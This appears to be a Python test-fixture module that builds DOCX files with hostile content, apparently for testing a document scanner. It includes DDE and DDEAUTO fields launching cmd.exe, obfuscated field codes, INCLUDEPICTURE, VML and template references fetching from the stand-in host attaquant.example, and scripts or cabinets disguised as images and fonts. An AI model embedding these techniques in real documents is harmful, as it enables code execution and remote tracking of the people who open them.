"""DOCX files whose fields are told by others, or whose pictures are not what they seem."""

from tests.functions.tenders.attached.files.packages import docx


def nested_fields() -> dict[str, bytes]:
    """DOCX files whose fields are told by others."""
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))

    def code(told: str) -> str:
        return f"<w:r><w:instrText>{told}</w:instrText></w:r>"

    quoted = begin + code(' QUOTE "https://attaquant.example/x.png" ') + end
    made = {
        "a picture that a field tells": begin + code(" INCLUDEPICTURE ") + quoted + code(" \\d ") + end,
        "a picture that a property tells": begin
        + code(" INCLUDEPICTURE ")
        + (begin + code(" DOCPROPERTY u ") + end)
        + end,
        "a field that another names": begin
        + (begin + code(' QUOTE "DDEAUTO" ') + end)
        + code(' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
        + end,
        "a field that another names in part": begin
        + code("D")
        + (begin + code(' QUOTE "DE" ') + end)
        + code(" cmd")
        + end,
        "a field in a condition": begin + code(" IF 1=1 ") + (begin + code(" DDE cmd a ") + middle + end) + end,
        "a field that never ends": begin + code(" DDE cmd a "),
        "a field behind blanks": begin + code(" " * 60_000) * 2 + code("DDE cmd a") + end,
        "a picture of a short share": begin + code(' INCLUDEPICTURE "//attaquant.example/x.png" ') + end,
        "a database": begin + code(' DATABASE \\c "DSN=a" \\s "SELECT 1" ') + end,
    }
    return {what: docx(body=f"<w:p>{body}</w:p>") for what, body in made.items()}


def of_shown() -> dict[str, bytes]:
    """DOCX files whose pictures stand elsewhere, or are none."""
    settings = (
        b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge>'
        b'<w:connectString w:val="Provider=x;Data Source=a"/></w:mailMerge></w:settings>'
    )
    return {
        "an old picture elsewhere": docx(
            body='<w:p><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://attaquant.example/x.png"/></w:p>'
        ),
        "an old picture elsewhere, in its part": docx(
            more={"word/a.vml": b'<xml><v:imagedata src = "&#104;ttps://attaquant.example/x.png"></xml>'}
        ),
        "an old drawing in 16 bits": docx(
            more={"word/a.vml": '<xml><v:imagedata src="https://attaquant.example/x"/></xml>'.encode("utf-16")}
        ),
        "data to merge": docx(more={"word/settings.xml": settings}),
        "a page as a picture": docx(more={"word/media/a.png": b"<html><script>alert(1)</script>"}),
        "a cabinet as a picture": docx(more={"word/media/a.png": b"MSCF" + bytes(100)}),
        "a script as a picture": docx(more={"word/media/b.emf": b'CreateObject("WScript.Shell").Run "calc"'}),
        "a script that begins as a picture": docx(more={"word/media/b.bmp": b'BM="CreateObject":WScript.Run "calc"'}),
        "a program as a font": docx(more={"word/fonts/a.ttf": b"MSCF" + bytes(100)}),
        "a style that fetches": docx(
            more={"word/media/a.svg": b"<svg><style>@im<!-- -->port 'https://attaquant.example/a'</style></svg>"}
        ),
        "a target told twice": docx(
            more={
                "word/_rels/document.xml.rels": b'<R><Relationship xmlns:z="z" Type="/attachedTemplate" '
                b'TargetMode="External" '
                b'Target="https://attaquant.example/a.dotm" z:Target="a.dotx"/></R>'
            }
        ),
    }
